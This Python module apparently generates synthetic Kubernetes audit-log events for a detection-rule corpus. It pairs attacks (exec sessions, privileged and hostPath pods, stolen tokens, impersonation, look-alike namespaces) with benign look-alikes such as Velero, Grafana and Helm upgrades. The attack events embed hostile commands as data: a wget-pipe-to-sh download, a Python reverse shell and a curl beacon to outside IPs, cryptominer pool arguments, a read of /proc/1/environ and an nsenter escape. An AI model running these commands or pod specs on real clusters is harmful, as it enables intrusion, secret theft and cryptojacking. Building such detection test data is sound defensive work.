# SPDX-License-Identifier: Apache-2.0
"""More variants of the techniques, and of the benign work that resembles them, added after a
corpus written blind to the rules showed what the first ones did not cover:

- sessions and watches logged at one stage only (ResponseComplete of an exec, an attach, a
  port-forward, a watch), as a log that lost the other stage has them;
- dangerous pod specs in workload templates (Deployments, StatefulSets, Jobs, CronJobs) and in
  patches (merge, strategic, JSON patches whose result only the response holds), refused by
  a policy webhook too; miners and droppers in templates and arguments;
- controller-created children with attacker traits but no privileged feature (a DaemonSet's
  beacon, a CronJob's Job in kube-system);
- a stolen in-cluster token (a log shipper's) doing reconnaissance and trying what it may not;
- credentials used from outside (a pod-bound token from a VPS, a node's certificate with the
  kubelet's user agent, a kube-system token with kubectl);
- refused impersonation, logged without the authorizer's decision;
- namespaces named to pass for kube-system;
- and the look-alikes: the platform's pods from a registry of OVHcloud's own, backup and
  dashboard tools reading secrets their way, Helm upgrades of security tools, kubelets refused
  a secret when a pod moved, apps reading their own ConfigMaps with plain HTTP clients.

The names (a log shipper, the `indexer` and `ledger` apps, the registry) are this corpus's
own, not those of any other corpus.
"""

import json

import mks
from mks import container, host_path_volume, pod_spec, pod_object, owner_ref, workload, created
from world import CONTROL_PLANE_IPS, YACHT_IPS

# A registry OVHcloud could pull the platform's images from (its real one is not known here).
PLATFORM_REGISTRY = "registry.mks-images.ovh.example/k8s"
VPS_IPS = ["45.155.204.19", "193.32.162.71", "2a0c:8fc0:1::4a"]
OVH_VPS_IP = "51.91.204.118"  # an OVHcloud VPS that is not one of the cluster's nodes


class Variants:
    def __init__(self, ctx, w):
        self.ctx, self.w = ctx, w
        self.attacks = []
        self.looks = []
        self.ordinary = []

    def add(self, technique, note, ev):
        self.attacks.append((technique, note, ev))

    def look(self, actor, note, ev):
        self.looks.append((actor, note, ev))

    def day(self, note, ev):
        self.ordinary.append((None, note, ev))

    def ctrl(self, name):
        return mks.sa(self.ctx, "kube-system", name), mks.ua_controller(name), list(CONTROL_PLANE_IPS)

    def child_pod(self, ctrl_name, ns, spec, owner_kind, owner_name, group="apps/v1", named=True):
        """A pod a controller creates from a workload's template (the response names it when
        `named`)."""
        c = self.ctx
        who, ua, ips = self.ctrl(ctrl_name)
        owner = owner_ref(c, owner_kind, owner_name, group)
        req = pod_object(c, ns, spec, generate_name=owner_name + "-", owner=owner, created=False)
        resp = pod_object(c, ns, spec, name=owner_name + "-" + c.suffix(), generate_name=owner_name + "-",
                          owner=owner) if named else None
        return mks.request(c, who, "create", "pods", ips, ua, namespace=ns, req=req, resp=resp, reason="")

    def write(self, who, ips, ua, obj, verb="create", code=None, message=None, query="", decision="allow"):
        c = self.ctx
        group, res = mks.WORKLOAD_RESOURCE[obj["kind"]]
        ns = obj["metadata"]["namespace"]
        name = obj["metadata"]["name"] if verb != "create" else None
        ok = code is None or code < 400
        return mks.request(c, who, verb, res, ips, ua, namespace=ns, name=name, group=group, req=obj,
                           resp=created(c, obj) if ok else None, code=code, message=message, query=query,
                           decision=decision)

    def patch(self, who, ips, ua, kind, ns, name, body, result, manager="kubectl-patch"):
        c = self.ctx
        group, res = mks.WORKLOAD_RESOURCE[kind]
        return mks.request(c, who, "patch", res, ips, ua, namespace=ns, name=name, group=group, req=body,
                           resp=created(c, result), query="fieldManager=" + manager)

    # ------------------------------------------------------------------ attacks

    def sessions_at_one_stage(self):
        """Exec, attach, port-forward and watches logged at ResponseComplete only."""
        w, c = self.w, self.ctx
        ns, app = w.app("search")
        for verb, sub, query, note in [
            ("create", "exec", "command=%2Fbin%2Fbash&container=indexer&stdin=true&stdout=true&tty=true",
             "an exec session (SPDY, 101) logged only when it ends"),
            ("get", "exec", "command=cat&command=%2Fproc%2F1%2Fenviron&container=indexer&stdout=true&stderr=true",
             "an exec (WebSocket GET) reading the main process's environment, ResponseComplete only"),
            ("get", "attach", "container=indexer&stdin=true&stdout=true&tty=true",
             "an attach logged only when it ends"),
            ("create", "portforward", "ports=9200", "a port-forward to the search cluster logged only when it ends"),
        ]:
            technique = {"exec": "exec", "attach": "attach", "portforward": "port-forward"}[sub]
            ev = mks.request(c, w.attacker_user(), verb, "pods", [w.attacker_ip()],
                             w.old_kubectl() if verb == "create" else w.kubectl(), namespace=ns,
                             name=w.pod_name(app), subresource=sub, query=query, code=101,
                             stage="ResponseComplete", reason=mks.ADMIN_REASON)
            self.add(technique, note, ev)
        who = mks.sa(c, "logging", "log-shipper", pod=f"log-shipper-{c.suffix()}", node=w.node())
        ev = mks.event(c, who, "watch", "/api/v1/secrets?allowWatchBookmarks=true&watch=true", [w.pod_ip()],
                       "python-requests/2.31.0", resource="secrets", stage="ResponseComplete")
        self.add("cluster-wide-secret-list", "a stolen log shipper token's watch of every secret, as it ends", ev)

    def templates(self):
        """Dangerous pod specs in workload templates and in patches."""
        w, c = self.w, self.ctx
        dev = mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"])
        ip, kub = [w.attacker_ip()], w.kubectl()
        obj = workload(c, "Deployment", "web", "blog-preview",
                       pod_spec([container("preview", "registry.acme-shop.fr/web/blog:3.2", privileged=True)]),
                       created=False)
        self.add("privileged-pod", "a Deployment whose template is privileged", self.write(dev, ip, kub, obj))
        obj = workload(c, "StatefulSet", "data", "pg-tools",
                       pod_spec([container("tools", "docker.io/library/postgres:16",
                                           caps=["SYS_ADMIN", "SYS_PTRACE", "DAC_READ_SEARCH"])]), created=False)
        self.add("privileged-pod", "a StatefulSet whose container adds three node-level capabilities",
                 self.write(w.admin(), ip, kub, obj))
        base = workload(c, "Deployment", "payments", "ledger",
                        pod_spec([container("ledger", "registry.acme-shop.fr/payments/api:4.2.7")]), created=False)
        result = json.loads(json.dumps(base))
        result["spec"]["template"]["spec"]["containers"][0]["securityContext"] = {"privileged": True,
                                                                                  "runAsUser": 0}
        ops = [{"op": "add", "path": "/spec/template/spec/containers/0/securityContext",
                "value": {"runAsUser": 0, "privileged": True}}]
        self.add("privileged-pod", "a JSON patch makes the ledger's container privileged (only the response shows it)",
                 self.patch(w.admin(), ip, kub, "Deployment", "payments", "ledger", ops, result))
        obj = workload(c, "Deployment", "web", "blog-preview",
                       pod_spec([container("preview", "registry.acme-shop.fr/web/blog:3.2", privileged=True)]),
                       created=False)
        self.add("privileged-pod", "a privileged Deployment refused by a policy webhook (400)",
                 self.write(mks.sa(c, "ci", "deployer"), [w.ctx.pick(["34.140.77.12", "35.205.19.246"])], kub, obj,
                            code=400,
                            message='admission webhook "validation.gatekeeper.sh" denied the request: '
                                    '[psp-privileged-container] Privileged container is not allowed: preview'))
        obj = workload(c, "Deployment", "search", "net-probe",
                       pod_spec([container("probe", "nicolaka/netshoot:v0.13", command=["sleep", "infinity"])],
                                host_network=True), created=False)
        self.add("host-namespace-pod", "a Deployment on the node's network", self.write(dev, ip, kub, obj))
        obj = workload(c, "Job", "data", "schema-upgrade",
                       pod_spec([container("upgrade", "docker.io/library/debian:12", command=["nsenter", "-t", "1", "-a", "sh"])],
                                host_pid=True, restart="Never"), created=False)
        self.add("host-namespace-pod", "a Job sharing the node's PID namespace (nsenter)", self.write(w.admin(), ip, kub, obj))
        obj = workload(c, "Deployment", "web", "image-builder",
                       pod_spec([container("builder", "docker:27-cli", mounts=[{"name": "sock", "mountPath": "/var/run/docker.sock"}])],
                                volumes=[host_path_volume("sock", "/var/run/docker.sock", "Socket")]), created=False)
        self.add("sensitive-hostpath-pod", "a Deployment mounting the node's runtime socket", self.write(dev, ip, kub, obj))
        base = workload(c, "Deployment", "search", "indexer",
                        pod_spec([container("indexer", "ghcr.io/acme-shop/search-api:0.31.2")]), created=False)
        result = json.loads(json.dumps(base))
        result["spec"]["template"]["spec"]["volumes"] = [{"name": "node-etc", "hostPath": {"type": "Directory", "path": "/etc"}}]
        body = {"spec": {"template": {"spec": {"volumes": [{"hostPath": {"type": "Directory", "path": "/etc"}, "name": "node-etc"}],
                                               "containers": [{"name": "indexer", "volumeMounts": [{"mountPath": "/node-etc", "name": "node-etc"}]}]}}}}
        self.add("sensitive-hostpath-pod", "a merge patch mounts the node's /etc into the indexer",
                 self.patch(dev, ip, kub, "Deployment", "search", "indexer", body, result))
        base = workload(c, "CronJob", "data", "compact",
                        pod_spec([container("compact", "registry.acme-shop.fr/tools/compact:1.0")], restart="OnFailure"),
                        created=False)
        result = json.loads(json.dumps(base))
        result["spec"]["jobTemplate"]["spec"]["template"]["spec"]["volumes"] = [{"name": "r", "hostPath": {"path": "/"}}]
        ops = [{"op": "add", "path": "/spec/jobTemplate/spec/template/spec/volumes", "value": [{"name": "r", "hostPath": {"path": "/"}}]}]
        self.add("cronjob-persistence", "a JSON patch gives a CronJob's pods the node's root filesystem",
                 self.patch(w.admin(), ip, kub, "CronJob", "data", "compact", ops, result))
        # miners
        obj = workload(c, "Deployment", "staging", "thumbnailer",
                       pod_spec([container("thumb", "docker.io/library/ubuntu:24.04",
                                           command=["/usr/local/bin/thumbd"],
                                           args=["--url", "stratum+ssl://gulf.moneroocean.stream:20128", "--user", "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx"])]),
                       created=False, replicas=8)
        self.add("cryptominer", "a Deployment running a renamed miner against a pool", self.write(dev, ip, kub, obj))
        obj = workload(c, "CronJob", "web", "cache-prune",
                       pod_spec([container("prune", "docker.io/library/alpine:3.20",
                                           command=["sh", "-c", "apk add -q xmrig; xmrig -o pool.minexmr.example:4444 --donate-level 0"])],
                                restart="OnFailure"), created=False, schedule="*/15 * * * *")
        self.add("cryptominer", "a CronJob installing and running xmrig", self.write(w.admin(), ip, kub, obj))
        base = workload(c, "Deployment", "web", "frontend",
                        pod_spec([container("frontend", "docker.io/library/nginx:1.27.2")]), created=False)
        result = json.loads(json.dumps(base))
        result["spec"]["template"]["spec"]["containers"][0]["args"] = ["-a", "rx/0", "-o", "xmr.2miners.com:2222"]
        body = {"spec": {"template": {"spec": {"$setElementOrder/containers": [{"name": "frontend"}],
                                               "containers": [{"args": ["-a", "rx/0", "-o", "xmr.2miners.com:2222"], "name": "frontend"}]}}}}
        self.add("cryptominer", "a strategic merge patch turns the frontend's arguments into a miner's",
                 self.patch(dev, ip, kub, "Deployment", "web", "frontend", body, result))
        # kube-system images swapped
        ds = workload(c, "DaemonSet", "kube-system", "konnectivity-agent",
                      pod_spec([container("konnectivity-agent", "docker.io/konnectivity/proxy-agent:v0.30.3")]), created=False)
        ops = [{"op": "replace", "path": "/spec/template/spec/containers/0/image",
                "value": "docker.io/konnectivity/proxy-agent:v0.30.3"}]
        self.add("kube-system-workload", "a JSON patch points the Konnectivity agent at a look-alike image",
                 self.patch(dev, ip, kub, "DaemonSet", "kube-system", "konnectivity-agent", ops, ds))
        self.add("kube-system-workload", "the DaemonSet controller starts the look-alike Konnectivity agent",
                 self.child_pod("daemon-set-controller", "kube-system",
                                pod_spec([container("konnectivity-agent", "docker.io/konnectivity/proxy-agent:v0.30.3")],
                                         node_name=w.node()), "DaemonSet", "konnectivity-agent"))

    def children(self):
        """Controller-created children with an attacker's traits and no privileged feature."""
        w, c = self.w, self.ctx
        spec = pod_spec([container("check", "docker.io/library/alpine:3.20",
                                   command=["sh", "-c", "while :; do curl -s -m 5 http://193.32.162.71/c?n=$(hostname) >/dev/null; sleep 120; done"])],
                        node_name=w.node(), tolerations=[{"operator": "Exists"}])
        self.add("malicious-command", "the DaemonSet controller starts a curl loop calling an address on the Internet",
                 self.child_pod("daemon-set-controller", "web", spec, "DaemonSet", "disk-check"))
        job = workload(c, "Job", "kube-system", f"node-gc-{c.rng.randint(28900000, 28999999)}",
                       pod_spec([container("gc", "docker.io/library/busybox:1.36",
                                           command=["sh", "-c", "wget -q -O- http://45.155.204.19/gc.sh | sh"])],
                                restart="OnFailure"), created=False)
        who, ua, ips = self.ctrl("cronjob-controller")
        ev = mks.request(c, who, "create", "jobs", ips, ua, namespace="kube-system", group="batch", req=job,
                         resp=created(c, job), reason="")
        self.add("malicious-command", "the CronJob controller starts the Job of an attacker's kube-system CronJob", ev)
        obj = workload(c, "Deployment", "shop", "cart-sync",
                       pod_spec([container("sync", "docker.io/library/python:3.12-alpine",
                                           command=["python3", "-c", "import socket,subprocess;s=socket.create_connection(('193.32.162.71',8443));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"])]),
                       created=False)
        self.add("malicious-command", "a Deployment running a reverse shell",
                 self.write(mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]), [w.attacker_ip()], w.kubectl(), obj))

    def stolen_token(self):
        """A log shipper's token taken from its pod: reconnaissance and attempts."""
        w, c = self.w, self.ctx
        node = w.node()
        who = mks.sa(c, "logging", "log-shipper", pod=f"log-shipper-{c.suffix()}", node=node)
        ip = [w.pod_ip()]
        ev = mks.event(c, who, "list", "/api/v1/namespaces/kube-system/secrets?limit=500", ip, "Go-http-client/1.1",
                       resource="secrets", namespace="kube-system")
        self.add("kube-system-secret-read", "a stolen log shipper token lists kube-system's secrets", ev)
        ev = mks.event(c, who, "list", "/api/v1/secrets?limit=500", ip, "Go-http-client/1.1", resource="secrets")
        self.add("cluster-wide-secret-list", "the same token lists every secret", ev)
        req = {"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
               "metadata": {"creationTimestamp": None},
               "spec": {"resourceAttributes": {"verb": "create", "resource": "pods", "namespace": "kube-system"}},
               "status": {"allowed": False}}
        ev = mks.request(c, who, "create", "selfsubjectaccessreviews", ip, "python-requests/2.31.0",
                         group="authorization.k8s.io", req=req, resp=req)
        self.add("sa-recon", "the same token asks whether it may create pods in kube-system", ev)
        ev = mks.request(c, who, "create", "serviceaccounts", ip, "python-requests/2.31.0", namespace="kube-system",
                         name="csi-cinder-controller-sa", subresource="token",
                         req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": None}},
                         code=403)
        self.add("token-request", "the same token asks for a kube-system controller's token (refused)", ev)
        spec = pod_spec([container("x", "docker.io/library/alpine:3.20", command=["sleep", "1d"])])
        ev = mks.request(c, who, "create", "pods", ip, "python-requests/2.31.0", namespace="kube-system",
                         req=pod_object(c, "kube-system", spec, name="x", created=False), code=403)
        self.add("kube-system-workload", "the same token tries to start a pod in kube-system (refused)", ev)
        spec = pod_spec([container("sh", "docker.io/library/alpine:3.20", command=["sleep", "1d"],
                                   mounts=[{"name": "logs", "mountPath": "/logs"}])],
                        volumes=[host_path_volume("logs", "/var/log/pods")])
        ev = mks.request(c, who, "create", "pods", ip, "curl/8.9.1", namespace="logging",
                         req=pod_object(c, "logging", spec, name="sh", created=False),
                         resp=pod_object(c, "logging", spec, name="sh"))
        self.add("sensitive-hostpath-pod", "the same token starts a pod with curl, mounting the node's pod logs", ev)

    def outside(self):
        """Credentials used from outside the cluster."""
        w, c = self.w, self.ctx
        ns, app = w.app("search")
        who = mks.sa(c, ns, app, pod=w.pod_name(app), node=w.node())
        ev = mks.request(c, who, "list", "deployments", [c.pick(VPS_IPS)], w.kubectl(), namespace=ns, group="apps",
                         query="limit=500")
        self.add("sa-credential-outside", "a pod-bound token used with kubectl from a VPS, in its own namespace", ev)
        node = w.node()
        ev = mks.request(c, mks.node_user(node), "get", "secrets", [c.pick(VPS_IPS)], mks.UA_KUBELET,
                         namespace="payments", name="payments-db-credentials", code=403,
                         message=f'secrets "payments-db-credentials" is forbidden: User "system:node:{node}" cannot get resource "secrets" in API group "" in the namespace "payments": no relationship found between node \'{node}\' and this object')
        self.add("node-credential-outside", "a node's certificate, the kubelet's user agent, from a VPS: a secret refused", ev)
        req = {"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": None}}
        ev = mks.request(c, mks.node_user(node), "create", "serviceaccounts", [c.pick(VPS_IPS)], mks.UA_KUBELET,
                         namespace="kube-system", name="canal", subresource="token", req=req, resp=req)
        self.add("node-credential-outside", "the same certificate mints the CNI's token from the VPS", ev)
        who = mks.sa(c, "kube-system", "canal", pod=f"canal-{c.suffix()}", node=node)
        ev = mks.event(c, who, "list", "/api/v1/secrets?limit=500", [OVH_VPS_IP], w.kubectl(), resource="secrets")
        self.add("sa-credential-outside", "the CNI's token with kubectl from an OVHcloud VPS that is no node", ev)

    def impersonation(self):
        w, c = self.w, self.ctx
        for who, ip, ua, verb, res, ns, target, note in [
            (mks.oidc("m.leroy@acme-shop.fr", ["acme:developers"]), w.attacker_ip(), w.kubectl(), "list", "secrets",
             "kube-system", "system:admin", "--as=system:admin refused (logged as the list it carried)"),
            (mks.sa(c, "logging", "log-shipper", pod=f"log-shipper-{c.suffix()}", node=w.node()), w.pod_ip(),
             "python-requests/2.31.0", "get", "nodes", None, "system:serviceaccount:kube-system:node-controller",
             "a stolen token tries to act as a kube-system controller"),
        ]:
            kind = "serviceaccounts" if target.startswith("system:serviceaccount:") else "users"
            tname = target.rsplit(":", 1)[-1] if kind == "serviceaccounts" else target
            msg = (f'{kind} "{tname}" is forbidden: User "{who["username"]}" cannot impersonate resource "{kind}" '
                   f'in API group "" ' + ('in the namespace "kube-system"' if kind == "serviceaccounts" else "at the cluster scope"))
            ev = mks.request(c, who, verb, res, [ip], ua, namespace=ns, query="limit=500" if verb == "list" else "",
                             name=None if verb == "list" else w.node(), code=403, message=msg, decision=None)
            self.add("impersonation", note, ev)

    def disguised_namespaces(self):
        w, c = self.w, self.ctx
        dev = mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"])
        for name, note in [("kube-systen", "a namespace one letter away from kube-system"),
                           ("kubesystem", "a namespace kube-system without its dash")]:
            ns = {"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": name, "creationTimestamp": None},
                  "spec": {}, "status": {"phase": "Active"}}
            ev = mks.request(c, dev, "create", "namespaces", [w.attacker_ip()], w.kubectl(), req=ns, resp=created(c, ns))
            self.add("disguised-namespace", note, ev)
        obj = workload(c, "DaemonSet", "kube-systen", "node-exporter",
                       pod_spec([container("exporter", "docker.io/library/alpine:3.20", command=["sh", "-c", "sleep infinity"])]),
                       created=False)
        ev = mks.request(c, dev, "create", "daemonsets", [w.attacker_ip()], w.kubectl(), namespace="kube-systen",
                         group="apps", req=obj, resp=created(c, obj))
        self.add("disguised-namespace", "a DaemonSet named like an exporter in the look-alike namespace", ev)
        ev = mks.request(c, dev, "create", "secrets", [w.attacker_ip()], w.kubectl(), namespace="kubesystem")
        self.add("disguised-namespace", "a secret stored in the other look-alike namespace", ev)

    # ------------------------------------------------------------------ look-alikes

    def platform_pods(self):
        """The platform's pods, pulled from a registry of OVHcloud's own."""
        w, c = self.w, self.ctx
        reg = PLATFORM_REGISTRY
        spec = pod_spec([container("kube-proxy", f"{reg}/kube-proxy:v1.31.1", privileged=True,
                                   mounts=[{"name": "lib-modules", "mountPath": "/lib/modules", "readOnly": True}])],
                        volumes=[host_path_volume("lib-modules", "/lib/modules"),
                                 host_path_volume("xtables-lock", "/run/xtables.lock", "FileOrCreate")],
                        host_network=True, node_name=w.node(), priority_class="system-node-critical",
                        sa_name="kube-proxy")
        self.look("daemonset-controller", "the DaemonSet controller starts kube-proxy from OVHcloud's registry",
                  self.child_pod("daemon-set-controller", "kube-system", spec, "DaemonSet", "kube-proxy", named=False))
        spec = pod_spec([container("cinder-csi-plugin", f"{reg}/cinder-csi-plugin:v1.31.1", privileged=True,
                                   caps=["SYS_ADMIN"],
                                   mounts=[{"name": "kubelet-dir", "mountPath": "/var/lib/kubelet"}]),
                         container("node-driver-registrar", f"{reg}/csi-node-driver-registrar:v2.10.1")],
                        volumes=[host_path_volume("kubelet-dir", "/var/lib/kubelet", "Directory"),
                                 host_path_volume("pods-probe-dir", "/dev", "Directory")],
                        host_network=True, node_name=w.node(), sa_name="csi-cinder-node-sa")
        self.look("daemonset-controller", "the DaemonSet controller starts the Cinder CSI node plugin from OVHcloud's registry",
                  self.child_pod("daemon-set-controller", "kube-system", spec, "DaemonSet", "csi-cinder-nodeplugin"))
        for name, image in [("coredns", "coredns"), ("metrics-server", "metrics-server")]:
            spec = pod_spec([container(name, f"{reg}/{image}:latest")], sa_name=name,
                            priority_class="system-cluster-critical")
            self.look("replicaset-controller", f"the ReplicaSet controller starts {name} from OVHcloud's registry",
                      self.child_pod("replicaset-controller", "kube-system", spec, "ReplicaSet", f"{name}-{c.hexs(9)}",
                                     named=name == "coredns"))

    def secret_tools(self):
        """Backup, secret and dashboard tools reading secrets their way."""
        w, c = self.w, self.ctx
        velero = mks.sa(c, "velero", "velero-server")
        vua = "velero-server/v1.14.1 (linux/amd64) 8afe3cea"
        ev = mks.event(c, velero, "list", "/api/v1/secrets?limit=500", [w.pod_ip()], vua, resource="secrets")
        self.look("backup", "Velero lists every secret for the nightly backup", ev)
        ev = mks.event(c, velero, "list", "/api/v1/namespaces/kube-system/secrets?limit=500", [w.pod_ip()], vua,
                       resource="secrets", namespace="kube-system")
        self.look("backup", "Velero backs up kube-system's secrets", ev)
        ns, app = "data", "postgres"
        ev = mks.request(c, velero, "create", "pods", [w.pod_ip()], vua, namespace=ns, name="postgres-0", subresource="exec",
                         query="command=%2Fbin%2Fbash&command=-c&command=psql+-c+CHECKPOINT&container=postgres&stderr=true&stdout=true",
                         code=101, stage="ResponseStarted")
        self.look("backup", "a Velero pre-backup hook runs a checkpoint in the database pod", ev)
        graf = mks.sa(c, "monitoring", "grafana", pod=f"grafana-{c.hexs(9)}-{c.suffix()}", node=w.node())
        for res in ("configmaps", "secrets"):
            ev = mks.event(c, graf, "watch",
                           f"/api/v1/{res}?labelSelector=grafana_dashboard%3D1&timeoutSeconds=60&watch=true",
                           [w.pod_ip()], "OpenAPI-Generator/29.0.0/python", resource=res, stage="ResponseStarted")
            self.look("grafana", f"Grafana's sidecar watches the {res} labelled for it in every namespace", ev)
        es = mks.sa(c, "external-secrets", "external-secrets")
        ev = mks.event(c, es, "watch", "/api/v1/secrets?allowWatchBookmarks=true&watch=true", [w.pod_ip()],
                       "external-secrets/v0.10.4 (linux/amd64) kubernetes/0000000", resource="secrets", stage="ResponseStarted")
        self.look("external-secrets", "External Secrets watches the secrets it manages", ev)

    def platform_work(self):
        """Helm upgrades of security tools, kubelets refused when a pod moved, restarts."""
        w, c = self.w, self.ctx
        eng, ip = w.human(), [w.human_ip()]
        ds = workload(c, "DaemonSet", "falco", "falco",
                      pod_spec([container("falco", "docker.io/falcosecurity/falco:0.40.0", privileged=True)],
                               volumes=[host_path_volume("proc", "/proc")]), created=False)
        body = {"spec": {"template": {"spec": {"containers": [{"name": "falco", "image": "docker.io/falcosecurity/falco:0.40.0"}]}}}}
        self.look("helm", "a platform engineer upgrades Falco with Helm",
                  self.patch(eng, ip, "Helm/3.16.2", "DaemonSet", "falco", "falco", body, ds, manager="helm"))
        ev = mks.request(c, eng, "patch", "configmaps", ip, "Helm/3.16.2", namespace="falco", name="falco-rules",
                         query="fieldManager=helm")
        self.look("helm", "the same upgrade ships new Falco rules", ev)
        node = w.node()
        ev = mks.request(c, mks.node_user(node), "get", "secrets", [w.node_ips[node]], mks.UA_KUBELET,
                         namespace="shop", name="storefront-tls", code=403,
                         message=f'secrets "storefront-tls" is forbidden: User "system:node:{node}" cannot get resource "secrets" in API group "" in the namespace "shop": no relationship found between node \'{node}\' and this object')
        self.look("kubelets", "a kubelet refused a secret of a pod that just left its node", ev)
        dep = workload(c, "Deployment", "kube-system", "coredns",
                       pod_spec([container("coredns", "registry.k8s.io/coredns/coredns:v1.11.3")]), created=False)
        body = {"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2025-03-12T03:41:09+01:00"}}}}}
        self.look("admins", "kubectl rollout restart of CoreDNS after its ConfigMap changed",
                  self.patch(mks.oidc("sre-oncall@acme-shop.fr", ["acme:sre"]), ip, w.kubectl(), "Deployment", "kube-system",
                             "coredns", body, dep, manager="kubectl-rollout"))
        ev = mks.request(c, mks.plain("yacht", ["system:authenticated"]), "patch", "daemonsets", list(YACHT_IPS), mks.UA_YACHT,
                         namespace="kube-system", name="kube-proxy", group="apps",
                         req={"spec": {"template": {"spec": {"containers": [{"name": "kube-proxy", "image": f"{PLATFORM_REGISTRY}/kube-proxy:v1.31.2"}]}}}},
                         resp=created(c, workload(c, "DaemonSet", "kube-system", "kube-proxy",
                                                  pod_spec([container("kube-proxy", f"{PLATFORM_REGISTRY}/kube-proxy:v1.31.2")]),
                                                  created=False)))
        self.look("yacht", "yacht rolls kube-proxy to a new version", ev)

    def node_logs(self):
        """The node's logs: a collector's DaemonSet pod (benign), a bare pod (the symlink escape)."""
        w, c = self.w, self.ctx
        spec = pod_spec([container("shipper", "registry.acme-shop.fr/ops/log-shipper:2.4",
                                   mounts=[{"name": "varlog", "mountPath": "/var/log", "readOnly": True}])],
                        volumes=[host_path_volume("varlog", "/var/log")], node_name=w.node(), sa_name="log-shipper")
        self.look("daemonset-controller", "the DaemonSet controller starts the shop's own log shipper",
                  self.child_pod("daemon-set-controller", "logging", spec, "DaemonSet", "log-shipper"))
        spec = pod_spec([container("reader", "docker.io/library/busybox:1.36", command=["sleep", "1d"],
                                   mounts=[{"name": "logs", "mountPath": "/host-logs"}])],
                        volumes=[host_path_volume("logs", "/var/log", "Directory")])
        dev = mks.oidc("ext-contractor@acme-shop.fr", ["acme:contractors"])
        ev = mks.request(c, dev, "create", "pods", [w.attacker_ip()], w.kubectl(), namespace="web",
                         req=pod_object(c, "web", spec, name="log-reader", created=False),
                         resp=pod_object(c, "web", spec, name="log-reader"))
        self.add("sensitive-hostpath-pod", "a bare pod mounting the node's /var/log, writable", ev)

    def apps(self):
        """Apps reading their own configuration with plain HTTP clients, from their pods."""
        w, c = self.w, self.ctx
        for i in range(14):
            ns, app = w.app()
            who = mks.sa(c, ns, app, pod=w.pod_name(app), node=w.node())
            res, name = c.pick([("configmaps", f"{app}-config"), ("configmaps", f"{app}-features"),
                                ("secrets", f"{app}-db"), ("configmaps", "kube-root-ca.crt")])
            ua = c.pick(["Go-http-client/2.0", "Go-http-client/1.1", "python-requests/2.31.0", "okhttp/4.12.0"])
            ev = mks.request(c, who, "get", res, [w.pod_ip()], ua, namespace=ns, name=name)
            self.day("an app reads its own configuration from its pod", ev)

    def all(self):
        self.sessions_at_one_stage()
        self.templates()
        self.children()
        self.stolen_token()
        self.outside()
        self.impersonation()
        self.disguised_namespaces()
        self.platform_pods()
        self.secret_tools()
        self.platform_work()
        self.node_logs()
        self.apps()
        return self.attacks, self.looks, self.ordinary
